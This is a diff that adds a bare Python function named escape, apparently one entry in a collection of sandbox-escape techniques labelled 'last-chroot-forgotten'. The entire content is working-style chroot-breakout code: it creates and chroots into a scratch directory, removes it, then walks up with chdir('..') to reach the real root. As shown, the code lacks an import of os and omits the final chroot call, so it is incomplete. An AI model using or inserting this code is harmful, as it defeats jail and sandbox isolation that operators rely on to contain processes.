@@ -1,0 +1,10 @@
+"""escape: last-chroot-forgotten"""
+
+
+def escape():
+    os.chdir("/")
+    os.mkdir("door")
+    os.chroot("door")
+    os.rmdir("door")
+    while not os.path.samefile(".", ".."):
+        os.chdir("..")
